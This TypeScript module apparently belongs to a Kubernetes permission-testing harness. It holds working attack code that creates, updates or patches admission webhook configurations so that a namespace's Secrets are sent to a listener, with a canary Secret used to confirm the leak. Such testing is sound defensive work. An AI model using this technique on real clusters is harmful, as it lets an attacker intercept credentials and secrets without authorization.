import { must } from "../../control-plane/act.ts";
import type { Attack } from "./attack.ts";
import { eavesdrop } from "./eavesdropper.ts";
import { canaryPath, valueIn, type Stage } from "./stage.ts";

const GROUP = "admissionregistration.k8s.io";

/** A configuration that sends the Secrets of the namespace, when they are written, to this address. */
function configuration(kind: string, { namespace, unique }: Stage, clientConfig: { url: string; caBundle: string }) {
  const webhook = {
    name: "eavesdropper.example.com",
    clientConfig,
    rules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE", "UPDATE"], resources: ["secrets"] }],
    namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": namespace } },
    failurePolicy: "Ignore",
    sideEffects: "None",
    admissionReviewVersions: ["v1"],
    timeoutSeconds: 5,
  };
  return { apiVersion: `${GROUP}/v1`, kind, metadata: { name: unique }, webhooks: [webhook] };
}

const KINDS = [
  { kind: "ValidatingWebhookConfiguration", resource: "validatingwebhookconfigurations" },
  { kind: "MutatingWebhookConfiguration", resource: "mutatingwebhookconfigurations" },
];

/** Nobody listens there. */
const NOWHERE = { url: "https://127.0.0.1:9/", caBundle: "" };

export const attacks: Attack[] = KINDS.flatMap(({ kind, resource }) =>
  ["create", "update", "patch"].map((verb) => {
    const path = `/apis/${GROUP}/v1/${resource}`;
    return {
      edge: "admission-webhooks",
      how: `${verb} of a ${kind}; then somebody writes the Secret`,
      rights: (stage) => {
        const names = verb === "create" ? [] : [stage.unique];
        return [stage.everywhere(verb, `${resource}.${GROUP}`, ...names)];
      },
      arrange: async (stage) => {
        await stage.plane.request("DELETE", `${path}/${stage.unique}`);
        if (verb !== "create") await must(stage.plane, "POST", path, configuration(kind, stage, NOWHERE));
      },
      attack: async (stage) => {
        const listener = await eavesdrop();
        try {
          const object = configuration(kind, stage, listener.clientConfig);
          const { webhooks } = object;
          const contentType = "application/merge-patch+json";
          if (verb === "create") await stage.send("POST", path, object);
          else if (verb === "update") {
            // An update has to say which version it replaces: no secret, every event of the object shows it.
            const { resourceVersion } = (await must(stage.plane, "GET", `${path}/${stage.unique}`))["metadata"];
            const metadata = { ...object.metadata, resourceVersion };
            await stage.send("PUT", `${path}/${stage.unique}`, { ...object, metadata });
          } else await stage.send("PATCH", `${path}/${stage.unique}`, { webhooks }, { contentType });
          return valueIn(
            await listener.heard(async (round) => {
              const metadata = { annotations: { round: String(round) } };
              await must(stage.plane, "PATCH", canaryPath(stage), { metadata });
            }),
          );
        } finally {
          await stage.plane.request("DELETE", `${path}/${stage.unique}`);
          await listener.close();
        }
      },
    } satisfies Attack;
  }),
);
